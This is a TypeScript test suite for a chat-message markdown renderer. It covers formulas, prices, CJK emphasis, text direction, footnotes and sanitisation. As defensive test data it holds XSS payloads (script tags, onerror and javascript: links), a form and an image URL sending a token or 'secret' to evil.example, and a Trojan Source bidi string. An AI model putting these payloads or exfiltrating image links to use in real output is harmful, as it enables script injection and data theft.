import fc from "fast-check";
import { fromHtml } from "hast-util-from-html";
import { toString } from "hast-util-to-string";
import { visit } from "unist-util-visit";
import { expect, test } from "vitest";
import { renderMessage } from "./message.ts";
import { formulaToMathml } from "./message-mathml.ts";

test("tables, lists, code and emphasis are rendered", () => {
  const html = renderMessage("**Bold** and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint(1 < 2)\n```");
  expect(html).toContain("<strong>Bold</strong>");
  expect(html).toContain("<td>1</td>");
  expect(html).toContain('<code class="language-python">print(1 &#x3C; 2)');
});

const formulas = (markdown: string) =>
  [
    ...renderMessage(markdown, {
      formula: (source, isDisplay) => `<math data-display="${isDisplay}">${source}</math>`,
    }).matchAll(/<math data-display="(\w+)">([^<]*)/g),
  ].map(([, display, source]) => [source, display === "true"]);

test.each<[string, [string, boolean][]]>([
  ["It is $x^2$.", [["x^2", false]]],
  ["It is \\(a_1\nb\\).", [["a_1\nb", false]]],
  ["So \\[\n\\frac{1}{2}\n\\] holds.", [["\\frac{1}{2}", true]]],
  ["$$\nx\n\ny\n$$", [["x\n\ny", true]]],
  ["$$x$$", [["x", true]]],
  ["| a |\n|---|\n| $x$ |", [["x", false]]],
  ["It costs $5, or $10 for two; $ 3 $ too.", []],
  ["From $5 to US$7.", []],
  ["`$x$` and\n\n```\n\\(x\\)\n```", []],
  ["An escaped \\$x\\$.", []],
  ["US$20 is the max. A `$HOME` variable", []],
  ["Set $x and `a$`.", []],
  ["It costs 20$/month or 30$/month.", []],
  ["$20 is more than 15 A$.", []],
  ["In $HOME/$USER or $A1$B2.", []],
  [
    "A 3$\\times$3 grid, the $n$th, a $k$-mean.",
    [
      ["\\times", false],
      ["n", false],
      ["k", false],
    ],
  ],
  [
    "It is $2ab$, $AB = CD$ or $5 \\text{ of them}$.",
    [
      ["2ab", false],
      ["AB = CD", false],
      ["5 \\text{ of them}", false],
    ],
  ],
])("formulas of %j", (markdown, expected) => {
  expect(formulas(markdown)).toEqual(expected);
});

test("prices are never formulas, and code stays code, in any sentence", () => {
  const price = fc
    .tuple(fc.constantFrom("$", "US$", "A$", "R$"), fc.nat(2000), fc.constantFrom("", ".50", ",000", "k", "M", "/mo"))
    .map((parts) => parts.join(""));
  const code = fc.constantFrom("`$HOME`", "`$a$`", "``$`x``", "`\\(x\\)`");
  const word = fc.constantFrom("is", "the max.", "and", "(about", "5€)", "or", "最大，", "30$", "20$/h");
  fc.assert(
    fc.property(fc.array(fc.oneof(price, code, word), { maxLength: 12 }), (parts) => {
      const sentence = parts.join(" ");
      expect(formulas(sentence)).toEqual([]);
      const spans = renderMessage(sentence).match(/<code/g)?.length ?? 0;
      expect(spans).toBe(parts.filter((part) => part.startsWith("`")).length);
    }),
  );
});

test("emphasis ends beside Chinese, Japanese and Korean punctuation", () => {
  const before = fc.constantFrom("", "这是", "これは", "이것은 ", "。");
  const inner = fc.constantFrom("重要。", "「重要」", "（注）", "한국어(Korean)", "“好”", "10%");
  const after = fc.constantFrom("です", "的", "은", "，", "");
  fc.assert(
    fc.property(before, inner, after, fc.constantFrom("strong", "em"), (left, text, right, tag) => {
      const mark = tag === "em" ? "*" : "**";
      expect(renderMessage(left + mark + text + mark + right)).toContain(`${left}<${tag}>${text}</${tag}>${right}`);
    }),
  );
});

test("each block has the direction of its letters, and code runs left to right", () => {
  const html = renderMessage(
    "שלום, מה שלומך?\n\n1. `npm` בית\n2. two\n\n- one\n\n> مرحبا\n\n```\nx\n```\n\n| שם |\n|-|\n| a |",
  );
  expect(html).toContain('<p dir="auto">שלום');
  expect(html).toMatch(/<ol dir="rtl">\s*<li dir="rtl"><code dir="auto">npm/);
  expect(html).toContain('<li dir="ltr">two');
  expect(html).toContain('<ul dir="ltr">');
  expect(html).toContain('<blockquote dir="rtl">');
  expect(html).toContain('<pre dir="ltr"');
  expect(html).toContain('<table dir="rtl">');
  expect(html).toContain('<td dir="auto">a');
});

test("a formula is MathML that holds no markup of the model's", () => {
  const html = renderMessage("$\\frac{a}{b}$ $\\href{javascript:alert(1)}{x}$ $\\text{<img src=x onerror=alert(1)>}$", {
    formula: formulaToMathml,
  });
  expect(html).toContain("<mfrac>");
  assertHarmless(html);
});

test("headings are below the page's own levels, and the footnotes of two messages have distinct ids", () => {
  expect(renderMessage("# One\n\n###### Six")).toMatch(/<h3[^>]*>One<\/h3>\s*<h6[^>]*>Six/);
  const ids = (prefix: string) => {
    const html = renderMessage("Said.[^1]\n\n[^1]: The note.", { prefix });
    const all = [...html.matchAll(/ id="([^"]+)"/g)].map(([, id]) => id ?? "");
    for (const [, target] of html.matchAll(/href="#([^"]+)"/g)) expect(all).toContain(target);
    return all;
  };
  const [one, two] = [ids("a-"), ids("b-")];
  expect(one.length).toBeGreaterThan(2);
  expect(one.filter((id) => two.includes(id))).toEqual([]);
});

test("a picture that is in the message is shown, one elsewhere is a link", () => {
  const html = renderMessage("![A dot](data:image/png;base64,iVBORw0KGgo=) ![bad](data:image/svg+xml;base64,PHN2Zz4=)");
  expect(html).toContain('<img src="data:image/png;base64,iVBORw0KGgo=" alt="A dot">');
  expect(html).not.toContain("svg");
});

test("a picture becomes a link, so that nothing is fetched without a click", () => {
  const html = renderMessage("![chart](https://evil.example/?q=secret)");
  expect(html).not.toContain("<img");
  expect(html).toContain('href="https://evil.example/?q=secret"');
});

test("tags are shown as text and no word is lost", () => {
  const said = "Use <b>bold</b> here.\n\n<div>\nIn a block\n</div>\n\n- <script>x</script> item";
  const text = toString(fromHtml(renderMessage(said), { fragment: true }));
  for (const piece of ["<b>bold</b>", "<div>", "In a block", "<script>x</script> item"]) expect(text).toContain(piece);
});

test.each([
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "[click](javascript:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  '<a href="https://x" onclick="alert(1)">x</a>',
  "<svg><animate onbegin=alert(1)>",
  "![a](javascript:alert(1))",
  "<form action=https://evil.example><input name=token></form>",
  "<style>*{display:none}</style>",
  `${"> ".repeat(5000)}deep`,
])("%s does nothing", (payload) => {
  assertHarmless(renderMessage(payload));
});

test("any text is rendered without markup that acts", () => {
  const piece = fc.constantFrom(
    "<",
    ">",
    "`",
    "![",
    "](",
    "javascript:",
    "<img onerror=",
    "\n",
    "a",
    "|",
    "*",
    "&#106;",
    '"',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => assertHarmless(renderMessage(pieces.join("")))),
  );
});

function assertHarmless(html: string): void {
  visit(fromHtml(html, { fragment: true }), "element", ({ tagName, properties }) => {
    expect(["script", "style", "iframe", "img", "form", "svg", "object", "embed"]).not.toContain(tagName);
    for (const [name, value] of Object.entries(properties)) {
      expect(name).not.toMatch(/^on/i);
      if (name === "href") expect(String(value)).toMatch(/^(https?:|mailto:|[^:]*$|[#/?])/i);
    }
  });
}

test("bidirectional controls in code are visible, and a copy of it is what was written", () => {
  // CVE-2021-42574: the comment seems to end before it does.
  const code = "/*\u202E } \u2066if (isAdmin)\u2069 \u2066 begin */";
  for (const markdown of [`\`${code}\``, `\`\`\`js\n${code}\n\`\`\``]) {
    const html = renderMessage(markdown);
    expect(html).toContain('data-code="U+202E"');
    expect(html.match(/class="vt-said-control"/g)).toHaveLength(4);
    expect(html).toContain("\u202E");
  }
  expect(renderMessage("\u202Eplain")).not.toContain("vt-said-control");
});

test("a text that cannot be formatted says so", () => {
  expect(renderMessage("a".repeat(200_001))).toContain("too long to be formatted");
  const failed = renderMessage("$$\\x{$$", { formula: () => undefined });
  expect(failed).toContain('title="This formula cannot be rendered."');
});

test("a table and a list beyond a number of rows are cut, with a button for the rest", () => {
  const table = `|a|\n|-|\n${"|x|\n".repeat(5)}`;
  const list = "- x\n".repeat(5);
  for (const [markdown, frame] of [
    [table, "vt-said-table"],
    [list, "vt-said-list"],
  ] as const) {
    const html = renderMessage(markdown, { maxRows: 4 });
    expect(html).toMatch(new RegExp(`<div class="${frame}"[^>]* data-cut`));
    expect(html).toContain('data-show-all="">Show all 5</button>');
    expect(html.match(/x</g)).toHaveLength(5);
    expect(renderMessage(markdown, { maxRows: 5 })).toBe(renderMessage(markdown));
    expect(renderMessage(markdown)).not.toContain("data-cut");
  }
});

test("a long message stands in boxes of so many blocks, and a short one in none", () => {
  const html = renderMessage("a\n\n".repeat(20), { partBlocks: 16 });
  expect(html.match(/<div class="vt-streamed__part">/g)).toHaveLength(3);
  expect(html.match(/<p[^>]*>a<\/p>/g)).toHaveLength(20);
  expect(renderMessage("a\n\nb", { partBlocks: 16 })).toBe('<p dir="auto">a</p>\n<p dir="auto">b</p>');
});
